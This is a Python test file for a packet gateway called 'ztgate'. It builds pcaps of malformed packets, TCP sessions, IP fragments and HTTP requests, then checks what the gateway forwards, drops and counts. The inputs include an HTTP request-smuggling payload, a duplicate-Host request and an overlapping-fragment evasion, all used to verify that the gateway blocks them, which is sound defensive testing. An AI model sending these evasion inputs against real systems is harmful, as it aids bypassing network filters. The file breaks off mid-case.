#!/usr/bin/python3
"""ztgate pipeline cases: each builds a pcap, runs ztgate on net_pcap and checks
the output pcap packet by packet and the counters.

Usage: cases.py ZTGATE CASE [--trafgen ZTG_TRAFGEN]   (meson registers one test per case)
"""
import argparse
import datetime
import hashlib
import json
import os
import signal
import struct
import subprocess
import sys
import tempfile
import time

from scapy.all import (ARP, ICMP, IP, IPv6, TCP, UDP, IPv6ExtHdrDestOpt, IPv6ExtHdrFragment,
                       IPv6ExtHdrHopByHop, IPv6ExtHdrRouting, ICMPv6EchoReply,
                       ICMPv6EchoRequest, ICMPv6ND_NA, ICMPv6ND_NS, ICMPv6NDOptSrcLLAddr,
                       DLT_EN10MB, Ether, Raw, RawPcapReader, RawPcapWriter)

from pipeline import MAC_CLIENT, MAC_SERVER, TcpSession, Ztgate, ip, link, read_pcap, remove_runtime_dir

V4 = ('192.0.2.10', '198.51.100.20')
V6 = ('2001:db8::10', '2001:db8:1::20')
ETH = 14  # untagged L3 offset

CASES = {}


def case(name):
    def register(fn):
        CASES[name] = fn
        return fn
    return register


def udp(src, dst, sport=5000, dport=53, data=b'query', vlans=()):
    return bytes(link(vlans) / ip(src, dst) / UDP(sport=sport, dport=dport) / Raw(data))


def patch(frame, offset, data):
    """frame with data written at offset."""
    return frame[:offset] + data + frame[offset + len(data):]


def ipv4_checksum_fixed(frame, l3=ETH):
    """frame with its IPv4 header checksum recomputed, so only the intended fault remains."""
    ihl = (frame[l3] & 0x0f) * 4
    header = bytearray(frame[l3:l3 + ihl])
    header[10:12] = b'\0\0'
    total = sum(struct.unpack('!%dH' % (ihl // 2), bytes(header)))
    while total >> 16:
        total = (total & 0xffff) + (total >> 16)
    return patch(frame, l3 + 10, struct.pack('!H', ~total & 0xffff))


def with_ipv4_options(frame, options):
    """Untagged IPv4 frame with option bytes (a multiple of 4) inserted after the fixed header."""
    ihl = 5 + len(options) // 4
    total = struct.unpack('!H', frame[ETH + 2:ETH + 4])[0] + len(options)
    frame = frame[:ETH + 20] + options + frame[ETH + 20:]
    frame = patch(frame, ETH, bytes([0x40 | ihl]))
    return ipv4_checksum_fixed(patch(frame, ETH + 2, struct.pack('!H', total)))


# ---- 1. complete sessions ------------------------------------------------------------------

def complete_sessions(zt, addrs, v4):
    for vlans in ((), (100,), (10, 100)):
        packets = TcpSession(*addrs, vlans=vlans).complete()
        r = zt.run(packets)
        r.expect_clean_pass(packets)
        n = len(packets)
        r.expect_totals(flows_created=1, tcp=n, udp=0, icmp=0, non_ip=0,
                        ipv4=n if v4 else 0, ipv6=0 if v4 else n)


@case('tcp-session-ipv4')
def tcp_session_ipv4(zt, args):
    complete_sessions(zt, V4, True)


@case('tcp-session-ipv6')
def tcp_session_ipv6(zt, args):
    complete_sessions(zt, V6, False)


# ---- 2. malformed packets ------------------------------------------------------------------

def malformed_packets():
    """(drop reason, frame) for every malformation decode.h lists."""
    good4 = udp(*V4)
    good6 = udp(*V6)
    tcp4 = lambda **f: bytes(link() / ip(*V4) / TCP(sport=40000, dport=80, **f))
    tcp6 = lambda **f: bytes(link() / ip(*V6) / TCP(sport=40000, dport=80, **f))
    ip4 = lambda payload=b'', **f: bytes(link() / ip(*V4, **f) / Raw(payload))
    ip6 = lambda payload=b'', **f: bytes(link() / ip(*V6, **f) / Raw(payload))
    arp = bytes(link(dst='ff:ff:ff:ff:ff:ff') / ARP(psrc=V4[0], pdst=V4[1]))
    ext6 = lambda *ext: bytes(link() / ip(*V6) / chain(ext) / UDP(sport=5000, dport=53))
    return [
        ('eth_truncated', good4[:10]),
        ('vlan_truncated', bytes(Ether(src=MAC_CLIENT, dst=MAC_SERVER, type=0x8100)) + b'\x00\x64'),
        ('vlan_truncated', udp(*V4, vlans=(10, 20))[:ETH + 5]),   # inner tag cut
        ('vlan_too_many_tags', udp(*V4, vlans=(10, 20, 30))),
        ('arp_truncated', arp[:ETH + 20]),
        ('arp_truncated', patch(arp, ETH + 5, b'\x64')),            # protocol address length 100
        ('ipv4_truncated', good4[:ETH + 15]),
        ('ipv4_truncated', patch(good4, ETH, b'\x4f')[:ETH + 40]),  # IHL 15 past the frame
        ('ipv4_bad_version', patch(good4, ETH, b'\x65')),
        ('ipv4_bad_ihl', patch(good4, ETH, b'\x44')),
        ('ipv4_bad_total_length', ip4(b'x' * 20, len=1000)),         # longer than the frame
        ('ipv4_bad_total_length', ip4(b'x' * 20, len=12)),           # shorter than the header
        ('ipv4_bad_checksum', ip4(b'x' * 20, chksum=0x1234)),
        ('ipv4_bad_options', with_ipv4_options(good4, b'\x07\x10\x00\x00')),  # record route overruns
        ('ipv4_bad_options', with_ipv4_options(good4, b'\x01\x01\x01\x83')),  # option without length
        ('ipv4_bad_options', with_ipv4_options(good4, b'\x44\x01\x00\x00')),  # length 1 < 2
        ('ipv4_bad_address', udp('127.0.0.1', V4[1])),
        ('ipv4_bad_address', udp(V4[0], '127.1.2.3')),
        ('ipv4_bad_address', udp('224.0.0.5', V4[1])),
        ('ipv4_bad_address', udp('255.255.255.255', V4[1])),
        ('ipv6_bad_address', udp('ff02::1', V6[1])),
        ('ipv6_bad_address', udp(V6[0], '::1')),
        ('ipv6_bad_address', udp('::ffff:198.18.0.1', V6[1])),
        ('ipv6_truncated', good6[:ETH + 30]),
        ('ipv6_bad_version', patch(good6, ETH, b'\x40')),
        ('ipv6_bad_payload_length', ip6(b'x' * 16, plen=500, nh=17)),
        ('ipv6_bad_payload_length', ip6(b'x' * 16, plen=0, nh=17)),       # jumbogram
        ('ipv6_bad_ext_header', ext6(IPv6ExtHdrDestOpt(), IPv6ExtHdrHopByHop())),  # hop-by-hop not first
        ('ipv6_bad_ext_header', ext6(IPv6ExtHdrRouting(type=0))),
        ('ipv6_bad_ext_header', patch(ext6(IPv6ExtHdrDestOpt()), ETH + 41, b'\x0a')),  # overruns
        ('ipv6_bad_ext_header', ext6(IPv6ExtHdrFragment(m=1), IPv6ExtHdrFragment())),
        ('ipv6_too_many_ext_headers', ext6(*[IPv6ExtHdrDestOpt() for _ in range(9)])),
        ('ip_bad_fragment', ip4(bytes(TCP(sport=1, dport=2))[:8], flags='MF', proto=6)),  # no room for TCP
        ('ip_bad_fragment', ip4(b'x' * 16, frag=8191, proto=17)),   # past 65535
        ('ip_bad_fragment', ip4(b'x' * 12, flags='MF', frag=4, proto=17)),  # not a multiple of 8
        ('tcp_truncated', ip4(b'x' * 10, proto=6)),
        ('tcp_truncated', ip6(b'x' * 10, nh=6)),
        ('tcp_bad_data_offset', tcp4(flags='S', dataofs=4)),
        ('tcp_bad_data_offset', tcp4(flags='S', dataofs=15)),     # past the segment
        ('tcp_bad_flags', tcp4(flags='SF')),
        ('tcp_bad_flags', tcp4(flags='')),
        ('tcp_bad_flags', tcp6(flags='SR')),
        ('tcp_bad_flags', tcp4(flags='F')),
        ('tcp_bad_flags', tcp4(flags='P')),
        ('tcp_bad_port', bytes(link() / ip(*V4) / TCP(sport=0, dport=80, flags='S'))),
        ('tcp_bad_port', bytes(link() / ip(*V6) / TCP(sport=40000, dport=0, flags='S'))),
        ('udp_truncated', ip4(b'x' * 4, proto=17)),
        ('udp_bad_length', bytes(link() / ip(*V4) / UDP(sport=5000, dport=53, len=4) / Raw(b'x' * 8))),
        ('udp_bad_length', bytes(link() / ip(*V6) / UDP(sport=5000, dport=53, len=100) / Raw(b'x' * 8))),
        ('udp_bad_port', udp(*V4, dport=0)),
        ('icmp_truncated', ip4(b'\x08\x00\x00\x00', proto=1)),
        ('icmpv6_truncated', ip6(b'\x80\x00\x00\x00', nh=58)),
        ('ipv4_bad_checksum', bytes(link((10, 100)) / ip(*V4, chksum=0x1234) / UDP(sport=5000, dport=53))),
        ('tcp_bad_flags', bytes(link((100,)) / ip(*V6) / TCP(sport=40000, dport=80, flags='SF'))),
    ]


def legal_edge_packets():
    """Frames at the edge of the decoder's checks that must still pass."""
    good4 = udp(*V4, sport=7000)
    ext6 = lambda *ext: bytes(link() / ip(*V6) / chain(ext) / UDP(sport=7000, dport=53) / Raw(b'edge'))
    return [
        udp(*V4, sport=0),                                          # UDP source port 0 (RFC 768)
        good4 + b'\0' * 10,                                         # Ethernet padding after the datagram
        with_ipv4_options(good4, b'\x01\x01\x01\x00'),             # NOPs and End of Option List
        ext6(*[IPv6ExtHdrDestOpt() for _ in range(8)]),             # as many extension headers as allowed
        ext6(IPv6ExtHdrHopByHop(), IPv6ExtHdrFragment(offset=0, m=0)),  # atomic fragment (RFC 6946)
        bytes(link() / ip(*V6, nh=59)) + b'\0' * 6,                 # No Next Header, padded
    ]


def chain(layers):
    out = layers[0]
    for layer in layers[1:]:
        out = out / layer
    return out


@case('malformed')
def malformed(zt, args):
    bad = malformed_packets()
    session = TcpSession(*V4)
    good = session.complete() + legal_edge_packets() + [udp(*V6, sport=6000 + i) for i in range(len(bad))]
    packets, expected = [], {}
    for i, g in enumerate(good):
        packets.append(g)
        if i < len(bad):
            packets.append(bad[i][1])
            expected[bad[i][0]] = expected.get(bad[i][0], 0) + 1
    r = zt.run(packets)
    r.expect_forwarded(good)
    r.expect_drops(expected)
    r.expect_totals(rx_packets=len(packets), tx_packets=len(good))


# ---- 3. mid-stream TCP ---------------------------------------------------------------------

def midstream_packets():
    session = TcpSession(*V4)
    session.handshake()  # seen by nobody: the capture starts after it
    return session.exchange() + session.close()


@case('tcp-midstream')
def tcp_midstream(zt, args):
    packets = midstream_packets()
    r = zt.run(packets)
    r.expect_forwarded([])
    r.expect_drops({'tcp_no_flow': len(packets)})
    r.expect_totals(flows_created=0)

    r = zt.run(packets, '--tcp-midstream', 'allow')
    r.expect_clean_pass(packets)
    r.expect_totals(flows_created=1)


# ---- 4. invalid TCP state ------------------------------------------------------------------

@case('tcp-invalid-state')
def tcp_invalid_state(zt, args):
    s = TcpSession(*V6)
    stray = lambda sender, flags, data=b'': s.segment(sender, flags, data, advance=False)
    valid, invalid, packets = [], [], []

    def add(frames, ok):
        (valid if ok else invalid).extend(frames)
        packets.extend(frames)

    add([s.c('S')], True)
    add([stray(0, 'SA'), stray(1, 'A'), stray(0, 'A')], False)  # SYN-ACK from initiator, ACKs before SYN-ACK
    add([s.s('SA')], True)
    add([stray(1, 'PA', b'early')], False)                     # responder data before the handshake ends
    add([s.c('A')], True)
    add([stray(0, 'S')], False)                                # SYN inside an established connection
    add(s.exchange(), True)
    add([s.c('FA')], True)
    add([stray(1, 'S')], False)                                # SYN while closing
    add([s.s('A'), s.s('FA'), s.c('A')], True)
    for burst in ('32', '1'):  # one burst holds the whole flow, then one packet per burst
        r = zt.run(packets, '--burst', burst)
        r.expect_forwarded(valid)
        r.expect_drops({'tcp_invalid_state': len(invalid)})
        r.expect_totals(flows_created=1, tcp=len(packets))


# ---- 5. non-IP -----------------------------------------------------------------------------

def non_ip_packets():
    lldp_tlvs = bytes.fromhex('020704020000000001' '030201' '0402' '0078' '0000')
    ns_dst = 'ff02::1:ff00:20'
    return [
        bytes(link(dst='ff:ff:ff:ff:ff:ff') / ARP(op=1, hwsrc=MAC_CLIENT, psrc=V4[0], pdst=V4[1])),
        bytes(link(src=MAC_SERVER, dst=MAC_CLIENT) /
              ARP(op=2, hwsrc=MAC_SERVER, psrc=V4[1], hwdst=MAC_CLIENT, pdst=V4[0])),
        bytes(Ether(src=MAC_CLIENT, dst='01:80:c2:00:00:0e', type=0x88cc) / Raw(lldp_tlvs)),
        bytes(link(dst='33:33:ff:00:00:20') / ip(V6[0], ns_dst, hlim=255) /
              ICMPv6ND_NS(tgt=V6[1]) / ICMPv6NDOptSrcLLAddr(lladdr=MAC_CLIENT)),
        bytes(link(src=MAC_SERVER, dst=MAC_CLIENT) / ip(V6[1], V6[0], hlim=255) /
              ICMPv6ND_NA(tgt=V6[1], R=0, S=1, O=1)),
        bytes(link((100,), dst='ff:ff:ff:ff:ff:ff') / ARP(psrc=V4[0], pdst=V4[1])),
    ]


@case('non-ip')
def non_ip(zt, args):
    control = non_ip_packets()
    ip_traffic = [udp(*V4)]
    packets = control[:3] + ip_traffic + control[3:]
    r = zt.run(packets)
    r.expect_clean_pass(packets)
    r.expect_totals(non_ip=len(control), ipv4=1, ipv6=0, flows_created=1)

    r = zt.run(packets, '--non-ip', 'drop')
    r.expect_forwarded(ip_traffic)
    r.expect_drops({'non_ip_denied': len(control)})
    r.expect_totals(non_ip=len(control))


# ---- 6. fragments --------------------------------------------------------------------------

def split(src, dst, payload, proto, sizes, ident, order=None, vlans=()):
    """The fragments of one datagram (payload = everything after the IP header): pieces of the
    given sizes, the last taking the rest, sent in `order` (piece indexes; default in order)."""
    frames, offset = [], 0
    for k, size in enumerate(sizes + [None]):
        piece = payload[offset:] if size is None else payload[offset:offset + size]
        last = size is None
        if ':' in src:
            layer = (IPv6(src=src, dst=dst) /
                     IPv6ExtHdrFragment(nh=proto, id=ident, offset=offset // 8, m=0 if last else 1))
        else:
            layer = IP(src=src, dst=dst, id=ident, proto=proto, flags=0 if last else 'MF', frag=offset // 8)
        frames.append(bytes(link(vlans) / layer / Raw(piece)))
        offset += len(piece)
    return [frames[k] for k in order] if order else frames


def udp_payload(src, dst, data, sport=5000, dport=53):
    """UDP header and data, checksum over the real pseudo-header, as the IP payload."""
    header = 40 if ':' in src else 20
    return bytes(ip(src, dst) / UDP(sport=sport, dport=dport) / Raw(data))[header:]


def fragment_frame(frame, sizes, ident, order=None):
    """A whole IP frame (untagged) cut into fragments."""
    layer = Ether(frame).payload
    if layer.version == 4:
        return split(layer.src, layer.dst, bytes(layer.payload), layer.proto, sizes, ident, order)
    return split(layer.src, layer.dst, bytes(layer.payload), layer.nh, sizes, ident, order)


def fragment_packets():
    return (split(*V4, udp_payload(*V4, b'a' * 40), 17, [24], 99) +
            split(*V6, udp_payload(*V6, b'b' * 40), 17, [24], 77))


@case('fragments')
def fragments(zt, args):
    """Reassembled (the default), then forwarded in the very pieces they came in; or dropped; or
    passed untracked."""
    frags = fragment_packets()
    r = zt.run(frags)
    r.expect_clean_pass(frags)
    r.expect_totals(fragments=4, datagrams_reassembled=2, ipv4=2, ipv6=2, udp=4, flows_created=2)

    r = zt.run(frags, '--fragments', 'drop')
    r.expect_forwarded([])
    r.expect_drops({'ip_fragment_denied': len(frags)})
    r.expect_totals(fragments=len(frags), ipv4=2, ipv6=2, flows_created=0)

    r = zt.run(frags, '--fragments', 'pass')
    r.expect_clean_pass(frags)
    r.expect_totals(fragments=len(frags), datagrams_reassembled=0, flows_created=0)


@case('fragments-reordered')
def fragments_reordered(zt, args):
    """Pieces arrive last first, over VLANs too; they leave in offset order once complete, and the
    other traffic around them keeps its own order."""
    v4 = split(*V4, udp_payload(*V4, bytes(range(256)) * 4), 17, [512, 256], 7)
    v6 = split(*V6, udp_payload(*V6, bytes(range(256)) * 4), 17, [256, 256, 256], 8)
    tagged = split(*V4, udp_payload(*V4, b'q' * 300), 17, [160], 9, vlans=(10, 100))
    other = udp(*V4, sport=6000, data=b'between')
    sent = [v4[2], v4[1], other, v4[0]] + [v6[3], v6[1], v6[0], v6[2]] + [tagged[1], tagged[0]]
    r = zt.run(sent)
    r.expect_forwarded([other] + v4 + v6 + tagged)
    r.expect_drops({})
    r.expect_totals(rx_packets=len(sent), tx_packets=len(sent), fragments=len(sent) - 1,
                    datagrams_reassembled=3)


@case('fragments-overlap')
def fragments_overlap(zt, args):
    """A piece that overlaps another with different bytes, or repeats one, loses the whole train:
    nothing of it reaches the receiver. A lone last piece sent afterwards to complete the
    receiver's copy is held, then dropped when ztgate stops."""
    payload = udp_payload(*V4, b'x' * 64)
    good = split(*V4, payload, 17, [24, 24], 31)
    # Same offset as the second piece, other bytes: the classic first-wins/last-wins evasion.
    evil = bytes(link() / IP(src=V4[0], dst=V4[1], id=31, proto=17, flags='MF', frag=3) / Raw(b'E' * 24))
    repeated = split(*V6, udp_payload(*V6, b'y' * 64), 17, [24, 24], 32)
    late_last = good[2]
    sent = [good[0], good[1], evil, good[2], repeated[0], repeated[0], late_last]
    r = zt.run(sent)
    r.expect_forwarded([])
    # The IPv4 train fails when its last piece shows more bytes than the datagram holds (four
    # pieces dropped); the IPv6 one when its first piece comes twice (two). late_last starts a
    # train of its own that never completes.
    r.expect_drops({'ip_fragment_overlap': 4 + 2, 'ip_fragment_timeout': 1})
    r.expect_totals(datagrams_reassembled=0, flows_created=0)


@case('fragments-limits')
def fragments_limits(zt, args):
    """More pieces than rte_ip_frag holds, a train that runs past 64 KiB, an IPv6 fragment header
    behind another extension header, a full table, and trains still incomplete at stop: each
    dropped and counted under its own reason."""
    # 10 pieces: first + 6 middle fill the slots, the 7th middle breaks the train.
    many = split(*V4, udp_payload(*V4, b'm' * 80), 17, [8] * 9, 40)
    # A last piece that fits the IP length fields but not, with its link header, a 64 KiB frame.
    huge = bytes(link() / IP(src=V4[0], dst=V4[1], id=41, proto=17, frag=8175) / Raw(b'h' * 120))
    behind_dest_opts = bytes(link() / IPv6(src=V6[0], dst=V6[1]) / IPv6ExtHdrDestOpt() /
                             IPv6ExtHdrFragment(nh=17, id=42, offset=0, m=1) / Raw(b'd' * 16))
    # A table of 16 trains, one taken by the rest of `many`: of 20 incomplete trains 5 find no room.
    incomplete = [split(*V4, udp_payload(*V4, b'i' * 32), 17, [16], 100 + n)[0] for n in range(20)]
    sent = many + [huge, behind_dest_opts] + incomplete
    r = zt.run(sent, '--fragment-limit', 'trains=16')
    r.expect_forwarded([])
    r.expect_drops({'ip_fragment_too_many': 8, 'ip_fragment_oversized': 1, 'ip_fragment_unsupported': 1,
                    'ip_fragment_table_full': 5,
                    # at stop: 15 incomplete trains, and the last two pieces of `many`
                    'ip_fragment_timeout': 15 + 2})
    r.expect_totals(rx_packets=len(sent), fragments=len(sent), datagrams_reassembled=0)


@case('fragments-http')
def fragments_http(zt, args):
    """HTTP inside fragmented TCP segments is inspected as a whole: a good request passes in its
    original pieces, a smuggling request whose headers straddle two pieces is denied with a 403
    and none of its pieces reaches the server."""
    t = TcpSession(*V4)
    head = t.handshake()
    request = t.c('PA', GOOD_REQUEST)
    good = fragment_frame(request, [32], 50, order=[1, 0])
    rest = [t.s('A')]
    bad = t.segment(0, 'PA', SMUGGLING, advance=False)
    bad_pieces = fragment_frame(bad, [72], 51)
    r = zt.run(head + good + rest + bad_pieces)
    r.expect_totals(http_requests=1, http_violations=1, verdicts_deny=1, datagrams_reassembled=2)
    r.expect_drops({'http_violation': len(bad_pieces)})
    expect_event(r, 'deny', 'http_content_length_and_transfer_encoding')
    if r.forwarded[:len(head) + 2 + len(rest)] != head + fragment_frame(request, [32], 50) + rest:
        r.fail('expected the handshake, the good request in its two pieces, and the ACK forwarded')
    if len(r.reflected) != 1 or not bytes(tcp_of(r.reflected[0]).payload).startswith(b'HTTP/1.1 403'):
        r.fail('expected one 403 back to the client')

    v6 = TcpSession(*V6)
    frames = v6.handshake()
    request6 = v6.c('PA', GOOD_REQUEST)
    pieces6 = fragment_frame(request6, [40], 52, order=[1, 0])
    r = zt.run(frames + pieces6)
    r.expect_forwarded(frames + fragment_frame(request6, [40], 52))
    r.expect_totals(http_requests=1, datagrams_reassembled=1, tcp=len(frames) + 2)


# ---- 7. flow table full --------------------------------------------------------------------

@case('flow-table-full')
def flow_table_full(zt, args):
    syns = [TcpSession(*V4, sport=41000 + i).c('S') for i in range(20)]
    r = zt.run(syns, '--flows', '8')
    r.expect_forwarded(syns[:8])
    r.expect_drops({'flow_table_full': 12})
    r.expect_totals(flows_created=8, flows_untracked=0)

    r = zt.run(syns, '--flows', '8', '--flow-full', 'open')
    r.expect_clean_pass(syns)
    r.expect_totals(flows_created=8, flows_untracked=12)


# ---- 8. connection reuse -------------------------------------------------------------------

@case('tcp-reuse')
def tcp_reuse(zt, args):
    s = TcpSession(*V4)
    packets = s.complete() + s.complete()  # same 5-tuple once the first connection closed
    r = zt.run(packets)
    r.expect_clean_pass(packets)
    r.expect_totals(flows_created=1, flows_reopened=1)

    # Refused (RST in answer to the SYN), retried with a retransmitted SYN, then reset mid-way.
    s = TcpSession(*V6)
    refused = [s.c('S'), s.s('RA')]
    syn = s.c('S')
    packets = refused + [syn, syn, s.s('SA'), s.c('A')] + s.exchange() + [s.c('RA')] + s.complete()
    r = zt.run(packets)
    r.expect_clean_pass(packets)
    r.expect_totals(flows_created=1, flows_reopened=2)


# ---- 9. UDP and ICMP -----------------------------------------------------------------------

@case('udp-icmp')
def udp_icmp(zt, args):
    c4, s4 = V4
    c6, s6 = V6
    packets = [
        udp(c4, s4, 5353, 53), udp(s4, c4, 53, 5353, b'answer'),
        udp(c6, s6, 5353, 53), udp(s6, c6, 53, 5353, b'answer'),
        bytes(link() / ip(c4, s4) / ICMP(type=8, id=0x1234, seq=1) / Raw(b'ping')),
        bytes(link(src=MAC_SERVER, dst=MAC_CLIENT) / ip(s4, c4) / ICMP(type=0, id=0x1234, seq=1) / Raw(b'ping')),
        bytes(link() / ip(c6, s6) / ICMPv6EchoRequest(id=0x4321, seq=1, data=b'ping')),
        bytes(link(src=MAC_SERVER, dst=MAC_CLIENT) / ip(s6, c6) / ICMPv6EchoReply(id=0x4321, seq=1, data=b'ping')),
        udp(c4, s4, 5353, 53, b'again'),
    ]
    r = zt.run(packets)
    r.expect_clean_pass(packets)
    r.expect_totals(flows_created=4, udp=5, icmp=4, tcp=0, ipv4=5, ipv6=4)


# ---- 10. generated traffic -----------------------------------------------------------------

@case('generated-traffic')
def generated_traffic(zt, args):
    if not args.trafgen:
        raise AssertionError('generated-traffic needs --trafgen')
    with tempfile.TemporaryDirectory(prefix='ztg-trafgen-') as tmp:
        pcap, describe = os.path.join(tmp, 'gen.pcap'), os.path.join(tmp, 'gen.json')
        subprocess.run([args.trafgen, '--output', pcap, '--sessions', '50', '--seed', '7', '--ipv6', '0.3',
                        '--describe', describe], check=True, timeout=60, stdout=subprocess.DEVNULL)
        with open(describe) as f:
            description = json.load(f)
        packets = [bytes(data) for data, _ in RawPcapReader(pcap)]
    if description['packets'] != len(packets):
        raise AssertionError('describe says %s packets, pcap holds %d' % (description['packets'], len(packets)))
    r = zt.run(packets)
    r.expect_clean_pass(packets)
    r.expect_totals(flows_created=description['sessions'], tcp=len(packets), non_ip=0)


# ---- 11. options ---------------------------------------------------------------------------

CONTRACT_OPTIONS = ['-f', '--config', '-p', '--pairs', '-w', '--workers', '--burst', '--flows',
                    '--flow-full', '--tcp-midstream', '--non-ip', '--fragments', '--fragment-limit', '--timeout',
                    '--forward-only', '--stats-interval', '--stats-json', '--ready-file',
                    '--duration', '--exit-on-idle', '--mbufs', '-h', '--help']


def expect_rejected(zt, options, needle):
    rc, out = zt.command(options)
    if rc == 0 or needle not in out:
        raise AssertionError('%s: expected a non-zero exit and a message with %r; exit %d, output:\n%s' %
                             (' '.join(options), needle, rc, out))


@case('options')
def options(zt, args):
    rc, out = zt.command(['--help'])
    missing = [o for o in CONTRACT_OPTIONS if o + ' ' not in out and o + ',' not in out]
    if rc != 0 or missing:
        raise AssertionError('--help: exit %d, options missing from the text: %s\n%s' % (rc, missing, out))

    for bad in (['--burst', '0'], ['--burst', '12x'], ['--pairs', '0:0'], ['--pairs', '0-1'],
                ['--flows', '-5'], ['--timeout', 'foo=1'], ['--timeout', 'udp=soon'],
                ['--flow-full', 'maybe'], ['--tcp-midstream', 'yes'], ['--non-ip', 'allow'],
                ['--fragments', 'defrag'], ['--fragment-limit', 'trains=1'],
                ['--fragment-limit', 'timeout-ms=0'], ['--exit-on-idle', '']):
        expect_rejected(zt, bad, bad[0])


@case('config-file')
def config_file(zt, args):
    with tempfile.TemporaryDirectory(prefix='ztg-config-') as tmp:
        broken = os.path.join(tmp, 'broken.cfg')
        with open(broken, 'w') as f:
            f.write('# a setting ztgate does not know\nburst = 16;\nflow_size = 3;\n')
        expect_rejected(zt, ['--config', broken], '%s:3: unknown option' % broken)
        with open(broken, 'w') as f:
            f.write('burst = 0;\n')
        expect_rejected(zt, ['--config', broken], '%s:1: burst' % broken)

        config = os.path.join(tmp, 'ztgate.cfg')
        with open(config, 'w') as f:
            f.write('tcp_midstream = "allow";\nflows = 1024;\ntimeout = { udp = 30; tcp_closed = 5; };\n')
        packets = midstream_packets()
        r = zt.run(packets, '--config', config)
        r.expect_clean_pass(packets)
        r = zt.run(packets, '-f', config, '--tcp-midstream', 'drop')  # the command line wins
        r.expect_forwarded([])
        r.expect_drops({'tcp_no_flow': len(packets)})


# ---- 12. several pairs and workers -------------------------------------------------------

@case('two-pairs-two-workers')
def two_pairs_two_workers(zt, args):
    """Two pairs of single-queue ports on two workers: each worker owns one whole pair,
    each pair forwards only its own traffic, and each worker counts only its own."""
    sessions = {0: TcpSession(*V4).complete(), 2: TcpSession(*V6, sport=41000).complete()}
    with tempfile.TemporaryDirectory(prefix='ztg-pipeline-') as tmp:
        path = lambda name: os.path.join(tmp, name)
        vdevs = []
        for port, packets in sessions.items():
            with RawPcapWriter(path('in%d.pcap' % port), linktype=DLT_EN10MB) as pcap:
                for frame in packets:
                    pcap.write(bytes(frame))
            vdevs += ['net_pcap%d,rx_pcap=%s,tx_pcap=%s' % (port, path('in%d.pcap' % port),
                                                              path('out%d.pcap' % port)),
                      'net_pcap%d,tx_pcap=%s' % (port + 1, path('out%d.pcap' % (port + 1)))]
        # Three lcores on the machine's two CPUs: the main one and two workers.
        rc, log = zt.execute(['-p', '0:1,2:3', '--exit-on-idle', '300', '--stats-json', path('stats.json')],
                             vdevs, lcores=('--lcores', '0@0,1@1,2@1'))
        if rc != 0:
            raise AssertionError('ztgate exited %d\n%s' % (rc, log))
        stats = json.load(open(path('stats.json')))
        for port, packets in sessions.items():
            if read_pcap(path('out%d.pcap' % (port + 1))) != [bytes(p) for p in packets]:
                raise AssertionError('pair %d:%d did not forward its session intact\n%s' % (port, port + 1, log))
            if read_pcap(path('out%d.pcap' % port)):
                raise AssertionError('port %d reflected packets\n%s' % (port, log))
    workers = stats['per_worker']
    if stats['workers'] != 2 or sorted(w['rx_packets'] for w in workers) != \
            sorted(len(p) for p in sessions.values()):
        raise AssertionError('expected each of 2 workers to carry one session: %s\n%s' %
                             ([(w['lcore'], w['rx_packets']) for w in workers], log))
    if any(w['flows_created'] != 1 or w['dropped'] for w in workers):
        raise AssertionError('each worker should own exactly one flow and drop nothing\n%s' % log)
    if 'worker lcore 1  = 0/0->1 1/0->0' not in log or 'worker lcore 2  = 2/0->3 3/0->2' not in log:
        raise AssertionError('queue plan not as expected\n%s' % log)


# ---- 13. streams, HTTP and verdicts on the wire ---------------------------------------------

GOOD_REQUEST = b'GET /api/v1/orders/42 HTTP/1.1\r\nHost: api.example\r\n\r\n'
SMUGGLING = (b'POST /api/v1/orders HTTP/1.1\r\nHost: api.example\r\nContent-Length: 4\r\n'
             b'Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n')


def events_of(r):
    """The JSON event lines ztgate wrote to stdout."""
    return [json.loads(line) for line in r.log.splitlines() if line.startswith('{"timestamp"')]


def tcp_of(frame):
    return Ether(frame)[TCP]


def expect_event(r, action, reason):
    events = events_of(r)
    if [(e['action'], e['reason']) for e in events] != [(action, reason)]:
        r.fail('expected one event %s/%s, got %s' % (action, reason, events))
    return events[0]


@case('http-deny')
def http_deny(zt, args):
    """A smuggling request after a good one: the good exchange passes, the bad request is
    dropped, the client gets a 403 naming the request id, the server a RST where it waits."""
    t = TcpSession(*V4)
    head = t.handshake() + t.exchange(GOOD_REQUEST)
    bad = t.segment(0, 'PA', SMUGGLING, advance=False)
    r = zt.run(head + [bad])
    # A head that breaks framing is a violation, never a HEADERS event: one request counted.
    r.expect_totals(http_requests=1, http_responses=1, http_violations=1, verdicts_deny=1, injected_packets=2)
    r.expect_drops({'http_violation': 1})
    event = expect_event(r, 'deny', 'http_content_length_and_transfer_encoding')
    if event['flow'] != {'src': V4[0], 'src_port': 40000, 'dst': V4[1], 'dst_port': 80, 'proto': 6} or \
            event['method'] != 'POST' or event['path'] != '/api/v1/orders':
        r.fail('event does not describe the request: %s' % event)
    if len(r.reflected) != 1:
        r.fail('expected the 403 back on port 0, got %d packets' % len(r.reflected))
    deny, bad_tcp = tcp_of(r.reflected[0]), tcp_of(bad)
    body = bytes(deny.payload)
    if not body.startswith(b'HTTP/1.1 403 Forbidden\r\n') or event['request_id'].encode() not in body:
        r.fail('403 body wrong: %r' % body)
    if (deny.sport, deny.dport, deny.seq, deny.ack, str(deny.flags)) != \
            (80, 40000, bad_tcp.ack, bad_tcp.seq + len(SMUGGLING), 'FPA'):
        r.fail('403 segment numbers wrong: %s' % deny.summary())
    rst = tcp_of(r.forwarded[-1])
    if r.forwarded[:-1] != head or 'R' not in str(rst.flags) or rst.seq != bad_tcp.seq or rst.dport != 80:
        r.fail('expected the good packets then a RST at seq %d to the server' % bad_tcp.seq)
    for frame in r.reflected + r.forwarded[-1:]:
        again = Ether(frame)
        del again[IP].chksum
        del again[TCP].chksum
        if bytes(Ether(bytes(again))) != frame:
            r.fail('injected frame has a wrong checksum: %s' % again.summary())


@case('http-reset')
def http_reset(zt, args):
    t = TcpSession(*V6)
    head = t.handshake()
    bad = t.segment(0, 'PA', b'GET / HTTP/1.1\r\nHost: a\r\nHost: b\r\n\r\n', advance=False)
    later = t.segment(0, 'A')
    r = zt.run(head + [bad, later], '--http-violation', 'reset')
    r.expect_drops({'http_violation': 1, 'flow_blocked': 1})
    # Two RSTs for the verdict, and one more answering the client that talks on afterwards.
    r.expect_totals(verdicts_reset=1, injected_packets=3)
    if len(r.reflected) != 2 or 'R' not in str(tcp_of(r.reflected[1]).flags):
        r.fail('the packet after the reset should be answered with a RST')
    expect_event(r, 'reset', 'http_duplicate_host')
    to_client, to_server = tcp_of(r.reflected[0]), tcp_of(r.forwarded[-1])
